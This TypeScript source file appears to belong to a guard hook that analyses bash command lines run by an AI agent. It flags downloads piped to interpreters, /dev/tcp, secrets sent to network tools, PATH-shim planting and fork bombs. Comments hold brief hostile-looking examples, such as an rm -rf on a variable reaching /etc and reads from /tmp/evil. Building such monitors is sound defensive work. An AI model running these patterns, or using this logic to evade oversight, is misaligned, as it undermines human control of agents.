// Whole-command analysis for the agent hook: a bash command line becomes the simple commands
// that will run (through pipes, lists, substitutions, wrappers and `sh -c`), each judged by the
// same per-binary engine, plus line-level facts no single argv shows (a download fed to an
// interpreter, /dev/tcp, a secret piped or substituted into a network command, loader variables).
import { DEFAULT_BINS } from '../shimmed.js';
import { posix } from 'node:path';
import { namesOnlyComputed, resolvePath, singleNames } from '../paths.js';
import { substitutionsIn } from '../shell/printed-names.js';
import { nameMatchesGlob } from '../glob.js';
import { judgeFacts, type Judged } from '../evaluate.js';
import { newFacts } from '../facts.js';
import type { CompiledPolicy } from '../policy.js';
import { commandsOf, compoundWrites, expandingText, expansionsOf, functionWrites, parseShell, resolveVariables, splitFields, type FlatCommand, type Word } from '../shell/index.js';
import { printsOneField } from '../shell/split-fields.js';
import type { Context } from '../types.js';
import { arithmeticCopies } from './arithmetic-copies.js';
import { foreignOutput, throughFilters } from './xargs-items.js';
import { assignmentTags, defaultAssignments, toolSetting } from './assignments.js';
import { deferredCode } from './deferred-code.js';
import { forkBomb } from './destructive.js';
import { GNU_LONG, judgeArgv } from './judge-argv.js';
import { fullLongOptions } from '../options.js';
import { keyedOption, subcommandIndex } from './global-options.js';
import { DASH_GLOB, splitOptionWord } from './option-expansions.js';
import { computedProgramWord } from './program-expansions.js';
import { CURRENT_BRANCH_ARGS } from '../analyzers/git-subcommands.js';
import { lineChecks } from './line-checks.js';
import { printfText, unescape } from './printf.js';
import { isDotenv, readsNamesOnly, showsNoValue } from './value-free.js';
import { expandBraces } from '../shell/split.js';
import { filterProgram, rememberWritten, replacedConfig } from './written-files.js';
import { newContainerSetup, recordContainerSetup } from './container-setup.js';
import { pathOnlyEdit, plantedProgram, plantsNoCode, shownEdit } from './planted-programs.js';
import { storedToken } from './token-config.js';
import { BUILTIN_AT, stepFileWrite } from './ci-files.js';
import { fetchedFiles } from './remote-copies.js';
import { credentialNameIn, credentialOf, madeBelow, DIGESTS, DNS_TOOLS, ENVIRON, digestOnly, loopbackSocket, DOWNLOADERS, envCredentialOf, fileExists, isSecretPath, realOf, rootIgnoreFile, secretOfVar, MAX_DEPTH, NETWORK_TOOLS, SERVICE_CLIS, ownSettingHere, namesOtherOwner, otherCluster, RELINKS, settingsVerb, switchesAccount, UNKNOWN_CWD, type Info, type State } from './state.js';
import { isShell, quote, withPositionals } from './unwrap.js';
import { wrappedCommand } from './wrapped-command.js';
import { languageOf } from './interpreters.js';
import { meantLines, understoodPrefix } from './syntax-repair.js';

/** Every judged unit of the line an agent's shell tool runs (surely shell: a refused line is read as it was meant). */
export function judgeShellLine(policy: CompiledPolicy, line: string, ctx: Context): Judged[] {
  return judgeLine(policy, line, ctx, 0, undefined, undefined, undefined, true);
}

/**
 * Every judged unit of a command line: one per simple command, plus one for line-level facts.
 * A nested line (`bash -c`, eval, a script this line wrote) shares what the enclosing line
 * established: copies of secrets, scripts and links it made, variables holding secrets, aliases.
 */
export function judgeLine(policy: CompiledPolicy, line: string, ctx: Context, depth = 0, parent?: State, shellVars?: Record<string, string>, end?: { cwd?: string; oldpwd?: string; unsure?: boolean; alt?: string[]; env?: Context['env'] }, mendRefused = false): Judged[] {
  const lineTags = newFacts('<line>');
  const st: State = {
    policy, ctx, depth, mendRefused, out: [], lineTags,
    aliases: parent?.aliases ?? new Map(), gitAliases: parent?.gitAliases ?? new Map(), gitRemotes: parent?.gitRemotes ?? new Map(), worktrees: parent?.worktrees ?? new Set(), clones: parent?.clones ?? new Set(), pathDirs: parent?.pathDirs ?? new Set(), containers: parent?.containers ?? newContainerSetup(), inside: parent?.inside, tainted: parent?.tainted ?? new Map(), archived: parent?.archived ?? new Map(), listings: parent?.listings ?? new Map(), projectArchives: parent?.projectArchives ?? new Set(), ownCopies: parent?.ownCopies ?? new Set(), foreign: parent?.foreign ?? new Set(),
    readsSecret: parent?.readsSecret ?? false, dynamicLookups: [], localSockets: parent?.localSockets ?? [], scripts: parent?.scripts ?? new Map(), relocated: parent?.relocated ?? [], generatedKubeconfigs: parent?.generatedKubeconfigs ?? new Set(),
    links: parent?.links ?? new Map(), substitutedFds: parent?.substitutedFds ?? new Map(), relativeLinks: parent?.relativeLinks ?? new Set(), binaries: parent?.binaries ?? new Map(), secretVars: parent?.secretVars ?? new Map(),
    sourcedSecret: parent?.sourcedSecret, ignoreRewrites: parent?.ignoreRewrites ?? new Set(), codeJudged: parent?.codeJudged ?? new Set(), expanding: parent?.expanding ?? new Set(), written: parent?.written ?? new Set(), opaqueWritten: parent?.opaqueWritten ?? new Map(),
    settledTokenFiles: parent?.settledTokenFiles ?? new Set(),
    functions: parent?.functions ?? new Map(), calledFunctions: parent?.calledFunctions ?? new Set(), traps: [], namerefs: parent?.namerefs ?? new Map(), references: parent?.references ?? new Map(), listedVars: parent?.listedVars ?? new Map(), foreignVars: parent?.foreignVars ?? new Map(), unlisted: parent?.unlisted ?? new WeakSet(), lineText: '', altCwds: [], fdVars: parent?.fdVars ?? new Map(), exported: parent?.exported ?? new Set(), exportUnsure: parent?.exportUnsure ?? new Set(), coprocs: parent?.coprocs ?? new Set(), ownPidVars: parent?.ownPidVars ?? new Set(), history: parent?.history ?? [], loopOver: parent?.loopOver ?? new Map(), edits: parent?.edits ?? new Map(), dirVars: parent?.dirVars ?? new Map(), branchVars: parent?.branchVars ?? new Set(), fieldLoopVars: parent?.fieldLoopVars ?? new Set(), globLoopVars: parent?.globLoopVars ?? new Set(), anyGlobLoopVars: parent?.anyGlobLoopVars ?? new Set(),
    // (A nested line — a shell alias's text, bash -c — runs on the branch the line switched to.)
    branch: parent?.branch,
    downloaded: parent?.downloaded ?? new Set(), downloadedBefore: new Set(parent?.downloaded ?? []), functionWrites: parent?.functionWrites ?? new Map(), posix: parent?.posix ?? false,
    // (Any mention of the options that make `*` match dot-files — shopt -s dotglob, bash -O dotglob, zsh's
    // globdots, a GLOBIGNORE — is taken to be in force for the whole line.)
    // (…spelled any way the shell accepts: dot"glob", zsh's DOT_GLOB, glob_dots.)
    dotglob: parent?.dotglob ?? /dotglob|globdots|GLOBIGNORE\+?=/i.test(line.replace(/["'\\_]/g, '')),
    sub(text, cwd, env, sameShell) {
      const vars = sameShell === true ? Object.fromEntries(Object.entries(env).filter((e): e is [string, string] => typeof e[1] === 'string')) : sameShell || undefined;
      const end = {};
      // (What a child shell exports or unexports ends with it: only text run in this same shell changes the line's exports.)
      const exported = sameShell === true ? undefined : new Set(st.exported);
      for (const j of judgeLine(policy, text, { ...ctx, cwd, env }, depth + 1, st, vars, end)) st.out.push(j);
      if (exported) {
        st.exported.clear();
        for (const n of exported) st.exported.add(n);
      }
      return end;
    },
    subIn(text, other) {
      for (const j of judgeLine(policy, text, other, depth + 1, st)) st.out.push(j);
    },
  };
  if (depth > MAX_DEPTH) lineTags.tags.add('shell-too-deep');
  else runLine(st, line, ctx.cwd, shellVars);
  if (end) Object.assign(end, { cwd: st.endCwd, oldpwd: st.oldpwd, unsure: st.oldpwdUnsure, alt: st.endAlt, env: st.endEnv });
  st.out.push(judgeFacts(policy, lineTags, ['<line>'], { ...ctx, stdin: undefined, stdout: undefined }));
  if (parent && st.readsSecret) parent.readsSecret = true;
  // `source`d text runs in the same shell: a secret it sourced stays sourced.
  if (parent && st.sourcedSecret) parent.sourcedSecret ??= st.sourcedSecret;
  return st.out;
}

const wordText = (w: Word): string => w.value;
/** The working directory after `cd` to a place only known at run time: paths relative to it are computed. */

const SOURCES = /(^|[\s;&|(`])(source|\.|eval)\s/;
const DEFINITION_IN_TEXT = /(?:^|[\s;&|({'"]|\\n)(?:function\s+)?([A-Za-z_][\w:-]*)\s*\(\s*\)\s*[{(]|(?:^|[\s;&|({'"]|\\n)function\s+([A-Za-z_][\w:-]*)/g;

function runLine(st: State, line: string, cwd0: string, shellVars: Record<string, string> = {}): void {
  st.lineText = line;
  arithmeticCopies(st, line, st.ctx.env);
  const parsed = parseShell(line);
  if (!parsed.ok) {
    // A line the shell refuses runs nothing; its intent is still what it says: it is judged as each
    // line it was likely meant to be (a quote closed, a dangling operator dropped), the strictest counting.
    // (Only an agent's shell tool surely gives shell: text an unknown program or tool is given may be another language.)
    const meant = st.mendRefused && st.depth === 0 ? meantLines(line) : { lines: [], complete: false };
    for (const text of meant.lines) runLine(st, text, cwd0, shellVars);
    if (meant.complete) {
      st.lineTags.notes.push(`the shell refuses this line (${parsed.error}): judged as it was likely meant`);
      return;
    }
    st.lineTags.tags.add('unparsed-line');
    // A script runs line by line up to the one that does not parse: the whole lines before it run.
    // (And the commands before the refused one on its line were meant too.)
    const lines = line.split('\n');
    for (let n = lines.length - 1; n > 0; n--) {
      const head = lines.slice(0, n).join('\n');
      if (parseShell(head).ok) {
        runLine(st, head, cwd0, shellVars);
        break;
      }
    }
    const prefix = understoodPrefix(line, parsed.position);
    if (prefix !== undefined) runLine(st, prefix, cwd0, shellVars);
    st.lineTags.notes.push(`cannot parse: ${parsed.error}`);
    return;
  }
  // Variables the shell will know: HOME, RAMPART_HOME, Claude Code's project dir.
  // TMPDIR: set in the agent's environment, it is the temp dir (judged as /tmp: macOS sets it to a
  // /var/folders/… directory); unset there, it is unset (`$TMPDIR/x` is /x on most Linux systems),
  // and ${TMPDIR:-/tmp} is /tmp.
  // (Text run in this same shell — a trap, a function's body — also sees what the line set before.)
  const tmpdir = st.ctx.env.TMPDIR;
  // (Only a value that is a temp dir counts as one: TMPDIR=$HOME in the environment is HOME.)
  const tempDir = typeof tmpdir === 'string' && /^\/(private\/)?(tmp|var\/folders)(\/|$)/.test(tmpdir);
  const known = { ...(typeof tmpdir === 'string' && tmpdir.startsWith('/') ? { TMPDIR: tempDir ? '/tmp' : tmpdir } : {}), ...shellVars, HOME: st.ctx.home, RAMPART_HOME: st.ctx.rampartHome, CLAUDE_PROJECT_DIR: st.ctx.projectRoot };
  // (A child shell — bash -c, a script — inherits what its parent exported: those names are set, to values not known here.)
  // (Functions of the enclosing lines count too: a body judged at its call may call them.)
  const own = functionWrites(parsed.script);
  for (const [name, writes] of own) st.functionWrites.set(name, writes);
  // A definition inside text the line holds as data (a file it writes, a string it evals or sources)
  // defines that name once the text is sourced: a call of it may set any variable.
  if (SOURCES.test(line)) {
    for (const m of line.matchAll(DEFINITION_IN_TEXT)) {
      const name = (m[1] ?? m[2])!;
      if (!own.has(name) && !st.functionWrites.has(name)) st.functionWrites.set(name, null);
    }
  }
  // `for NAME in …` assigns NAME each item in turn, as NAME=item does: a loop over PATH, LD_PRELOAD or a
  // proxy variable is judged as each of those assignments (an item computed at run time, or "$@", as unknown).
  const bindings = loopBindings(parsed.script);
  for (const [name, items] of bindings) {
    // A loop over one unquoted variable (FILES=$(grep -rl x .github); for f in $FILES) gives its variable each word of that
    // variable's value: where that value is a listing, the loop's variable is a listed path — only where nothing else in the
    // line binds the name (no assignment, read, other loop …) and it is not used before the loop.
    // (…or over an array's elements, "${FILES[@]}" — mapfile -t FILES < <(git ls-files): each element one listed path.)
    const over = items?.length === 1 && items[0]!.parts.filter((x) => !(x.kind === 'literal' && x.text === '')).length === 1 ? /^\$(?:([A-Za-z_]\w*)|\{([A-Za-z_]\w*)\})$|^"\$\{([A-Za-z_]\w*)\[@\]\}"$/.exec(items[0]!.raw) : null;
    const at = line.search(new RegExp(`(^|[\\s;&|(])for\\s+${name}\\s+in\\s`));
    // (A name several loops bind counts where each of them runs over that same one variable: for s in "${scripts[@]}" twice.)
    if (over && (over[1] ?? over[2] ?? over[3]) !== name && bindings.filter(([n]) => n === name).every(([, xs]) => xs?.length === 1 && xs[0]!.raw === items![0]!.raw) && at >= 0
      && !new RegExp(`(^|[^\\w$])${name}(\\[[^\\]]*\\])?\\+?=|\\b(read|mapfile|readarray|getopts|printf|declare|typeset|local|export|let|unset|select)\\b[^;&|\\n]*\\b${name}\\b`).test(line)
      && !new RegExp(`\\$\\{?${name}\\b`).test(line.slice(0, at))
      // (…and nothing in the line that may rebind it unseen: eval f\=…, a sourced file, wait -p f. A cd is listedWord's:
      // the names are relative to where the listing ran.)
      // (Only as a command word: `grep -c .` and `find . -name x` pass a dot, they source nothing.)
      // (…its options skipped: command -p eval f\\=~ and time -p eval run eval.)
      && !new RegExp(`${BUILTIN_AT}(?:(?:-\\w+|--)\\s+)*(eval|source|\\.|wait)(?=[\\s;&|)]|$)`).test(line)) st.loopOver.set(name, (over[1] ?? over[2] ?? over[3])!);
    // (Items that are plain words or unquoted expansions were split already: each turn's value is one field.)
    // (Not a glob: a file name it matches may hold blanks — touch -- '-D main' — and an unquoted $b splits it again.)
    if (items?.length && items.every((w) => (w.static && !/\s/.test(w.value) && !/[*?[]/.test(w.raw.replace(/'[^']*'|"[^"]*"/g, ''))) || (!w.static && w.parts.every((p) => !('quoted' in p) || !p.quoted)))) st.fieldLoopVars.add(name);
    else if (items?.some((w) => w.static && DASH_GLOB.test(w.raw.replace(/'[^']*'|"[^"]*"/g, '')))) st.globLoopVars.add(name);
    if (items?.some((w) => w.static && w.glob)) st.anyGlobLoopVars.add(name);
    if (!/^[A-Z_][A-Z0-9_]*$/.test(name) && !/^(?:(?:https?|ftp|all|no)_proxy|npm_config_\w+)$/i.test(name)) continue;
    for (const w of items ?? []) assignmentTags(st, name, w.static ? w.value : `$(${name})`, w.static, cwd0);
    if (!items?.length) assignmentTags(st, name, '"$@"', false, cwd0);
  }
  // (Posix mode — sh, set -o posix, POSIXLY_CORRECT — keeps a prefix given to `:`.)
  st.posix ||= POSIX_MODE.test(line);
  const flat = commandsOf(resolveVariables(parsed.script, known, Object.keys(st.ctx.env).filter((k) => !(k in known)), st.functionWrites, st.posix));
  const info: Info[] = [];
  let cwd = cwd0;
  let env: Record<string, string | undefined> = { ...st.ctx.env };
  // Functions the line defines and names again (a call, a trap): their bodies are judged where
  // they are called, with the variables and arguments of that call; a body never judged so is
  // judged at the end as written, with nothing known.
  // (A function defined twice is judged as written, each body: which runs at a call depends on the order.)
  const defined = functionBodies(parsed.script, line);
  for (const n of [...defined.keys()]) if ((line.match(new RegExp(`(^|[\\s;&|(])(function\\s+)?${n.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}\\s*\\(\\s*\\)`, 'g')) ?? []).length > 1) defined.delete(n);
  const calledLater = new Set([...defined.keys()].filter((n) => (line.match(new RegExp(`(^|[^\\w-])${n.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}(?![\\w-])`, 'g')) ?? []).length > 1));
  for (const [n, body] of defined) st.functions.set(n, body);
  // coproc NAME … (or COPROC): ${NAME[0]}/${NAME[1]} are its pipes, $NAME_PID its process.
  // (…in a function's body too, judged as a line of its own where it is called: the coproc of the line that calls it.)
  // Variables the line fills only with its own jobs' pids (pids+=($!)): a trap or a function may kill "${pids[@]}" at any point.
  st.ownPidVars = new Set([...st.ownPidVars, ...ownPidVars(flat, line, compoundWrites(parsed.script))]);
  for (const m of line.matchAll(/(?:^|[\s;&|(])coproc\s+(?:([A-Za-z_]\w*)\s+(?=[{(]|(?:while|until|if|for|case)\s))?/g)) st.coprocs.add(m[1] ?? 'COPROC');
  // The directory at the entry of each subshell the commands are in (`( cd x && … )`, a pipeline
  // element, a substitution): a cd inside one ends with it, and the commands after it run where it began.
  const entered = new Map<number, { cwd: string; alt: string[]; oldpwd: string | undefined; unsure: boolean | undefined }>();
  for (const fc of flat) {
    const left = [...entered.keys()].filter((id) => !fc.scopes.includes(id));
    if (left.length) {
      const back = entered.get(Math.min(...left))!;
      // (A directory lost inside stays lost: where the shell is afterwards is still the entry's.)
      cwd = back.cwd;
      st.altCwds = back.alt;
      st.oldpwd = back.oldpwd;
      st.oldpwdUnsure = back.unsure;
      for (const id of left) entered.delete(id);
    }
    for (const id of fc.scopes) if (!entered.has(id)) entered.set(id, { cwd, alt: [...st.altCwds], oldpwd: st.oldpwd, unsure: st.oldpwdUnsure });
    if (typeof fc.inFunction === 'string' && calledLater.has(fc.inFunction)) {
      info[fc.index] = { name: '', cwd, argv: [], interpreterReadsStdin: false, isInterpreter: false, writesFiles: [] };
      continue;
    }
    const downloadsBefore = st.downloaded.size;
    const i = judgeSimple(st, fc, flat, info, cwd, env);
    // (What a called function or nested text downloaded, the commands after the call see.)
    if (st.downloaded.size > downloadsBefore) i.info.nestedDownloads = [...st.downloaded].slice(downloadsBefore);
    // Where a directory change may not have happened, the command is judged in the old place too.
    if (cwd !== UNKNOWN_CWD && !/^(cd|pushd|popd)$/.test(i.info.name)) {
      st.inAltCwd = true;
      for (const alt of st.altCwds) if (alt !== cwd) judgeSimple(st, fc, flat, info, alt, env);
      st.inAltCwd = false;
    }
    info[fc.index] = i.info;
    // (A copy from elsewhere — scp host:f ., docker cp c:/f . — is a download too; a directory it fills, as a clone's.)
    if (DOWNLOADERS.has(i.info.name) || i.info.copiedIn) for (const w of fetchedFiles(i.info)) st.downloaded.add(w);
    for (const t of i.info.copiedIn?.trees ?? []) st.downloaded.add(`${t}/`);
    // A loop over a project listing, or `read` fed by one, binds its variable to each listed path.
    // (Only a list that is that one substitution, and only its output commands — ones not piped on
    // inside it — bind: `for f in $(git ls-files) ~` and `$(echo ~; git ls-files)` list more. A
    // variable the line set before keeps that value if the listing is empty, so it is not bound.)
    const loopVar = fc.origin?.loopVariable;
    if (loopVar && fc.origin!.wholeWord && !fc.origin!.quoted && fc.origin!.loopItems === 1 && fc.stdoutTo.length === 0 && !st.spacedNames) {
      const word = fc.origin!.word;
      if (st.unlisted.has(word) || (env[loopVar] !== undefined && !st.listedVars.has(loopVar))) st.listedVars.delete(loopVar);
      else listed(st, loopVar, i.info, cwd);
      if (!st.listedVars.has(loopVar)) st.unlisted.add(word);
    } else if (loopVar) st.listedVars.delete(loopVar);
    // (`read` binds one name, from its pipe: `read -r f g` splits, `read f < file` reads another input.)
    // (…and mapfile/readarray bind their array, each element one listed path; a listing file read back binds as its lister would.)
    const readNames = i.info.argv[0] === 'read' ? i.info.argv.slice(1).filter((a, k, xs) => /^[A-Za-z_]\w*$/.test(a) && !/^-[dnNptua]$/.test(xs[k - 1] ?? ''))
      : /^(mapfile|readarray)$/.test(i.info.argv[0] ?? '') ? [i.info.argv.slice(1).filter((a, k, xs) => /^[A-Za-z_]\w*$/.test(a) && !/^-[dnOsuCc]$/.test(xs[k - 1] ?? '')).at(-1) ?? 'MAPFILE'] : [];
    const redirected = fc.redirects.filter((r) => /^<(<<)?$|^<<-?$/.test(r.op));
    const fromFile = redirected.at(-1)?.op === '<' ? st.listings.get(posix.resolve(cwd, redirected.at(-1)!.target.value.replace(/^~(?=\/|$)/, st.ctx.home))) : undefined;
    // (…or from a process substitution's listing: mapfile -t f < <(ls -A), and the loop's own: while read f; do …; done < <(ls -A).)
    const fromSub = redirected.at(-1)?.op === '<' && /^<\(/.test(redirected.at(-1)!.target.raw) ? flat.filter((c) => c.origin != null && ((c.origin.parent === fc.index && c.origin.location === 'redirect') || (c.origin.parent === null && c.origin.word.raw === redirected.at(-1)!.target.raw)) && c.stdoutTo.length === 0).map((c) => info[c.index]).filter((x): x is Info => x !== undefined).at(-1) : undefined;
    if (readNames.length === 1 && fromFile) listed(st, readNames[0]!, { ...i.info, namesOut: fromFile.namesOut, listsUnder: fromFile.listsUnder }, cwd);
    else if (readNames.length === 1 && fromSub) listed(st, readNames[0]!, fromSub, cwd);
    else if (readNames.length === 1 && !redirected.length) listed(st, readNames[0]!, i.info, cwd);
    else for (const v of readNames) st.listedVars.delete(v);
    // (read -a S binds the array S — its elements the words read, not the listing S held: read -ra S < /tmp/evil.)
    if (i.info.argv[0] === 'read') i.info.argv.slice(1).forEach((a, k, xs) => { if (/^-[A-Za-z]*a$/.test(xs[k - 1] ?? '')) st.listedVars.delete(a); });
    // (…and a read fed text others wrote — git log --format=%s | while read s — holds that text: pasted into code, it is code.)
    // (…through filters too: git log --format=%s | head -5 | while read s.)
    // (…or a file from outside the project read by redirection: read -r X < /tmp/name.)
    const redirectedFile = redirected.at(-1)?.op === '<' && !/^<\(/.test(redirected.at(-1)!.target.raw) ? redirected.at(-1)!.target.value : undefined;
    // (A list this line wrote there itself — find … > /tmp/objs; while read f … < /tmp/objs — is its own, unless downloaded.)
    const redirectedAbs = redirectedFile === undefined ? '' : posix.resolve(cwd, redirectedFile.replace(/^~(?=\/|$)/, st.ctx.home));
    const outsideFile = redirectedFile !== undefined && !redirectedAbs.startsWith(`${st.ctx.projectRoot}/`) && !/^\/dev\//.test(redirectedAbs) && (!st.written.has(redirectedAbs) || st.downloaded.has(redirectedAbs)) ? `the lines of ${redirectedFile}` : undefined;
    for (const v of readNames) {
      const from = throughFilters(fc.stdinFrom, info, (k) => flat[k]?.stdinFrom ?? []).map((up) => foreignOutput(info[up], st.ctx)).find((x) => x !== undefined) ?? outsideFile;
      if (from !== undefined) st.foreignVars.set(v, from);
      else st.foreignVars.delete(v);
    }
    // A name with a space made in the line (mkdir -p 'x /home/user'): a listing split into words may
    // now print any path, so unquoted listings are no longer trusted.
    // (A substitution that prints one field — backups/db-$(date +%F).sql.gz — puts no blank in the name its text shows.)
    const blank = (w: string) => /\s/.test(w.replace(/\$\(([^()]*)\)/g, (sub, body: string) => { const p = parseShell(body); return p.ok && printsOneField(p.script) ? '_' : sub; }));
    if (i.info.writesFiles.some(blank) || (/^(mkdir|touch|cp|mv|ln|install|tee)$/.test(i.info.name) && i.info.argv.slice(1).some((a) => !a.startsWith('-') && blank(a)))) st.spacedNames = true;
    // Any other assignment to a bound name unbinds it (f=$HOME after the loop); one whose value is a
    // project listing's single name binds it (f=$(ls -t db/migrations/*_x.sql | head -n1)).
    // (Only a value that is that one substitution, every output command of it a lister or a filter of one.)
    fc.assignments.forEach((a, k) => {
      if (a.scope === 'prefix') return;
      const subs = /^"?(\$\(|`)[\s\S]*(\)|`)"?$/.test(a.value.raw) && a.value.substitutions.length === 1 ? flat.filter((c) => c.origin?.parent === fc.index && c.origin.location === 'assignment' && c.origin.wordIndex === k) : [];
      const outputs = subs.filter((c) => c.stdoutTo.length === 0);
      // (A fallback that prints nothing — files=$(git grep -l X || true) — adds no name: the listing is the value.)
      const silent = (c: FlatCommand) => c.argv.length === 1 && /^(true|false|:)$/.test(c.argv[0]!.value) && c.redirects.length === 0;
      const listers = outputs.filter((c) => !silent(c));
      // (…and one that prints text others wrote — X=$(curl … | jq -r .name), X=$(cat /tmp/n), X=$(git log -1 --format=%s) —
      // holds that text, as a `read` fed it does.)
      // (A ref name — git describe, tag, branch — never holds `..` or starts with `/`: as a path piece it stays where it is put.)
      const foreign = outputs.flatMap((c) => throughFilters([c.index], info, (j) => flat[j]?.stdinFrom ?? [])).map((j) => foreignOutput(info[j], st.ctx)).find((x) => x !== undefined && !/^what git (describe|tag|branch|name-rev|ls-remote|for-each-ref) /.test(x));
      if (foreign !== undefined) st.foreignVars.set(a.name, foreign);
      else st.foreignVars.delete(a.name);
      // (…and one that is a listed name with a literal suffix — js="${ts%.ts}.js" in a loop over a listing — names what it does.)
      const derived = a.value.substitutions.length === 0 ? listedWord(st, a.value.raw, cwd) : undefined;
      if (listers.length && listers.every((c) => info[c.index]?.listsUnder !== undefined || info[c.index]?.namesOut !== undefined) && !st.spacedNames) listed(st, a.name, info[listers.at(-1)!.index]!, cwd);
      else if (derived && !derived.at) st.listedVars.set(a.name, derived.secret ? { path: derived.path, secret: true } : { path: derived.path, secret: false, cwds: [cwd, ...st.altCwds] });
      else st.listedVars.delete(a.name);
    });
    kubeconfigsWritten(st, fc, i.info, cwd);
    for (const w of i.info.writesFiles) {
      // (A file touch creates is empty: its text is known — an __init__.py, a .keep.)
      if (i.info.name === 'touch' && !st.written.has(w) && !st.scripts.has(w)) st.scripts.set(w, '');
      st.written.add(w);
      // A script written where tools look for programs (node_modules/.bin, a virtualenv's bin): the
      // next npx, npm script or activated shell runs it, so its text is judged now. (A download put
      // there and then run is caught with the line's other downloads.)
      const text = /\/(node_modules\/\.bin|\.?venv\/bin|\.tox\/[^/]+\/bin)\/[^/]+$/.test(w) ? st.scripts.get(w) : undefined;
      if (text !== undefined && !st.codeJudged.has(w)) {
        st.codeJudged.add(w);
        st.sub(text, cwd, env);
      }
      // (An edit that only repoints a path — a moved venv's activate, a shebang — leaves the program what it was.)
      const at = posix.resolve(cwd, w.replace(/^~(?=\/|$)/, st.ctx.home));
      // (A directory put before the shims earlier in the line, filled now with a shimmed program's name: found first.)
      if (st.pathDirs.has(posix.dirname(at)) && DEFAULT_BINS.includes(posix.basename(at))) {
        st.lineTags.tags.add('path-strip');
        st.lineTags.notes.push(`${at} is put where PATH looks before the shims`);
      }
      if (!pathOnlyEdit(st, i.info.name, i.info.argv, cwd, i.info.writesFiles) && !plantsNoCode(st, i.info.name, i.info.argv, cwd)) plantedProgram(st, at, st.scripts.has(w) || /^(chmod|chown|chgrp|chattr|setfacl|touch)$/.test(i.info.name) || projectCopy(st, i.info.name, i.info.argv, cwd) || shownEdit(i.info.name, i.info.argv, at));
    }
    cwd = i.cwd;
    env = i.env;
  }
  // (Inside a subshell still open at the end, a cd is undone; where a cd may not have happened, the places it may be.)
  const open = entered.size ? entered.get(Math.min(...entered.keys())) : undefined;
  st.endCwd = open?.cwd ?? cwd;
  st.endAlt = open?.alt ?? st.altCwds;
  st.endEnv = open ? undefined : env;
  // Traps fire as the shell exits: with the variables and directory the line ends with.
  // (A loop's, an arithmetic command's or a nameref's variable holds what it was given last: not known here.)
  if (st.traps.length) for (const n of compoundWrites(parsed.script)) env = { ...env, [n]: undefined, [`${n}[@]`]: undefined };
  for (const trap of st.traps.splice(0)) st.sub(trap.text, cwd, env, true);
  for (const n of calledLater) if (!st.calledFunctions.has(n)) st.sub(defined.get(n)!, cwd0, st.ctx.env);
  // (Heredoc bodies are data: a fixture file listing a fork bomb is no fork bomb.)
  const bodies = flat.flatMap((c) => c.redirects.map((r) => r.heredoc?.body).filter((b): b is string => !!b));
  if (forkBomb(bodies.reduce((l, b) => l.split(b).join(''), line))) {
    st.lineTags.tags.add('destroys-outside');
    st.lineTags.notes.push('a function starts copies of itself in the background: a fork bomb exhausts the machine');
  }
  lineChecks(st, flat, info, cwd0);
  // Code bash runs from text read as data here: subscripts, prompt expansions.
  const deferred = deferredCode(line);
  for (const code of deferred.code) st.sub(code, cwd0, st.ctx.env);
  for (const name of deferred.unknownPrompts) {
    st.lineTags.tags.add('dynamic-command');
    st.lineTags.notes.push(`\${${name}@P} runs the command substitutions of a value only known when the line runs`);
  }
}

/** The branch `git [opts] checkout|switch …` leaves checked out; undefined when it does not switch. */
function switchedBranch(args: readonly string[]): string | undefined {
  let i = 0;
  while (i < args.length && args[i]!.startsWith('-')) i += /^(-C|-c|--git-dir|--work-tree|--namespace)$/.test(args[i]!) ? 2 : 1;
  const sub = args[i];
  // HEAD pointed at another branch by hand (symbolic-ref HEAD refs/heads/main), or the current branch renamed
  // (branch -m main): later plain pushes push that name.
  const named = (a: string | undefined) => (a === undefined ? undefined : /[$`]/.test(a) ? '<unknown>' : a.replace(/^refs\/heads\//, ''));
  if (sub === 'symbolic-ref') {
    const pos = args.slice(i + 1).filter((a, k, all) => !a.startsWith('-') && all[k - 1] !== '-m');
    return pos.length === 2 && pos[0] === 'HEAD' ? named(pos[1]) : undefined;
  }
  if (sub === 'branch') {
    const rest = args.slice(i + 1);
    if (!rest.some((a) => /^(-m|-M|--move)$/.test(a) || /^-[a-zA-Z]*[mM]$/.test(a))) return undefined;
    const pos = rest.filter((a) => !a.startsWith('-'));
    return pos.length === 1 ? named(pos[0]) : undefined;
  }
  if (sub !== 'checkout' && sub !== 'switch') return undefined;
  const rest = args.slice(i + 1);
  if (rest.includes('--') || rest.some((a) => a.startsWith('--pathspec-from-file')) || rest.includes('--detach')) return undefined;
  const create = rest.findIndex((a) => /^(-b|-B|-c|-C|--orphan|--create|--force-create)$/.test(a));
  if (create >= 0) return rest[create + 1];
  const pos = rest.filter((a) => !a.startsWith('-'));
  if (pos.length !== 1) return undefined;
  return pos[0] === '-' || /[$`]/.test(pos[0]!) ? '<unknown>' : pos[0]!;
}

/** A substitution that prints the current branch, as an assignment's whole value. */
const BRANCH_SUB = new RegExp(`^"?(\\$\\(|\`)\\s*git (${CURRENT_BRANCH_ARGS})\\s*(\\)|\`)"?$`);

/** A path named by a word that is a captured-directory variable and a literal rest ("$ROOT/dist", "${OUT}.tar.gz"). */
function dirVarPath(st: State, raw: string): string | undefined {
  // ($D, ${D}, "${D:?}"/x — :? only stops the line when D is empty; ${D}.sha256 names a sibling.)
  const m = /^"?\$(?:([A-Za-z_]\w*)|\{([A-Za-z_]\w*)(?::?\?[^}]*)?\})([\w.-]*)"?((?:\/[^$`"]*)?)"?$/.exec(raw);
  const dir = m ? st.dirVars.get((m[1] ?? m[2])!) : undefined;
  // (Unquoted, a value with blanks is split into several words — d="build /etc/$x"; rm -rf $d — each judged as it is.)
  if (dir !== undefined && !raw.startsWith('"') && /\s/.test(dir)) return undefined;
  return dir !== undefined ? posix.join(dir + (m![3] ?? ''), m![4]!) || '/' : undefined;
}

/** Variables the line sets only to its own background jobs' pids — pids=(); … & pids+=($!) — and in no other way (no
 *  read, mapfile, declare, eval, printf -v, element assignment or loop): a trap's kill "${pids[@]}" signals only those. */
function ownPidVars(flat: readonly FlatCommand[], line: string, loopVars: Iterable<string>): Set<string> {
  const PID = /^(|\(\s*\)|\((\s*"?\$(!|\{!\})"?)+\s*\)|"?\$(!|\{!\})"?)$/;
  const loops = new Set(loopVars);
  const byName = new Map<string, boolean>();
  for (const c of flat) for (const a of c.assignments) byName.set(a.name, (byName.get(a.name) ?? true) && a.scope !== 'prefix' && PID.test(a.value.raw));
